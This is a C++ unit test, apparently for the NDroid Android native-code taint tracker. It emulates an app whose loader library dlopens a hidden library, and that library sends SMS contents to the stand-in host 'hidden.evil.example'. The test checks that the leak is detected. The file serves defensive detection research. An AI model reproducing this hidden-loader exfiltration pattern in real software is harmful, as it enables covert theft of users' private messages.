@@ -1,0 +1,119 @@
+// Hidden-library scenario: the app ships a benign-looking library that
+// dlopen()s a second library at runtime and calls its leak function through
+// dlsym — the "hide the program logic" pattern the paper attributes to
+// malware using NDK (§I) and to type-II apps with loadable payloads (§III).
+// NDroid must still detect the leak: the hidden library is just more guest
+// code inside the app's address range.
+#include <gtest/gtest.h>
+
+#include "apps/native_lib_builder.h"
+#include "core/ndroid.h"
+
+namespace ndroid::core {
+namespace {
+
+using android::Device;
+using arm::LR;
+using arm::PC;
+using arm::R;
+
+TEST(DynamicLoading, DlopenDlsymRoundTrip) {
+  Device device;
+  device.libc.register_dl_library("libhidden.so",
+                                  {{"secret_fn", 0x12340000}});
+  const GuestAddr name = device.dvm.data_cstr("libhidden.so");
+  const GuestAddr sym = device.dvm.data_cstr("secret_fn");
+  const GuestAddr missing = device.dvm.data_cstr("libnot.so");
+
+  const u32 handle =
+      device.cpu.call_function(device.libc.fn("dlopen"), {name, 2});
+  ASSERT_NE(handle, 0u);
+  EXPECT_EQ(device.cpu.call_function(device.libc.fn("dlopen"), {missing, 2}),
+            0u);
+  EXPECT_EQ(device.cpu.call_function(device.libc.fn("dlsym"), {handle, sym}),
+            0x12340000u);
+  device.cpu.call_function(device.libc.fn("dlclose"), {handle});
+  EXPECT_EQ(device.cpu.call_function(device.libc.fn("dlsym"), {handle, sym}),
+            0u);  // closed handles resolve nothing
+}
+
+TEST(DynamicLoading, HiddenLibraryLeakStillDetected) {
+  Device device;
+  NDroid nd(device);
+  auto& dvm = device.dvm;
+
+  // The hidden payload: void hidden_leak(const char* p) — sends p out.
+  apps::NativeLibBuilder hidden(device, "libhidden.so");
+  {
+    auto& a = hidden.a();
+    const GuestAddr host = hidden.cstr("hidden.evil.example");
+    const GuestAddr fn = hidden.fn();
+    a.push({R(4), R(5), LR});
+    a.mov(R(5), R(0));  // p
+    a.mov_imm(R(0), 2);
+    a.mov_imm(R(1), 1);
+    a.mov_imm(R(2), 0);
+    a.call(device.libc.fn("socket"));
+    a.mov(R(4), R(0));
+    a.mov_imm32(R(1), host);
+    a.mov_imm(R(2), 80);
+    a.call(device.libc.fn("connect"));
+    a.mov(R(0), R(5));
+    a.call(device.libc.fn("strlen"));
+    a.mov(R(2), R(0));
+    a.mov(R(0), R(4));
+    a.mov(R(1), R(5));
+    a.call(device.libc.fn("send"));
+    a.pop({R(4), R(5), PC});
+    hidden.install();
+    device.libc.register_dl_library("libhidden.so", {{"hidden_leak", fn}});
+  }
+
+  // The visible loader library: void run(JNIEnv*, jclass, jstring secret)
+  //   { p = GetStringUTFChars(secret);
+  //     h = dlopen("libhidden.so"); f = dlsym(h, "hidden_leak"); f(p); }
+  apps::NativeLibBuilder loader(device, "libloader.so");
+  GuestAddr fn_run;
+  {
+    auto& a = loader.a();
+    const GuestAddr libname = loader.cstr("libhidden.so");
+    const GuestAddr symname = loader.cstr("hidden_leak");
+    fn_run = loader.fn();
+    a.push({R(4), R(5), LR});
+    a.mov(R(1), R(2));
+    a.mov_imm(R(2), 0);
+    a.call(device.jni.fn("GetStringUTFChars"));
+    a.mov(R(5), R(0));  // p
+    a.mov_imm32(R(0), libname);
+    a.mov_imm(R(1), 2);
+    a.call(device.libc.fn("dlopen"));
+    a.mov_imm32(R(1), symname);
+    a.call(device.libc.fn("dlsym"));
+    a.mov(R(4), R(0));  // hidden_leak
+    a.mov(R(0), R(5));
+    a.blx(R(4));
+    a.pop({R(4), R(5), PC});
+    loader.install();
+  }
+
+  dvm::ClassObject* app = dvm.define_class("Lhidden/App;");
+  dvm::Method* run = dvm.define_native(app, "run", "VL",
+                                       dvm::kAccPublic | dvm::kAccStatic,
+                                       fn_run);
+  dvm::Method* src = device.framework.sms_manager->find_method(
+      "getAllMessages");
+  dvm::CodeBuilder cb;
+  cb.invoke(src, {}).move_result(0).invoke(run, {0}).return_void();
+  dvm::Method* entry = dvm.define_method(
+      app, "main", "V", dvm::kAccPublic | dvm::kAccStatic, 1, cb.take());
+  dvm.call(*entry, {});
+
+  EXPECT_EQ(device.kernel.network().bytes_sent_to("hidden.evil.example"),
+            "sms:1:hello from vincent");
+  ASSERT_FALSE(nd.leaks().empty());
+  EXPECT_EQ(nd.leaks()[0].sink, "send");
+  EXPECT_EQ(nd.leaks()[0].taint, kTaintSms);
+}
+
+}  // namespace
+}  // namespace ndroid::core
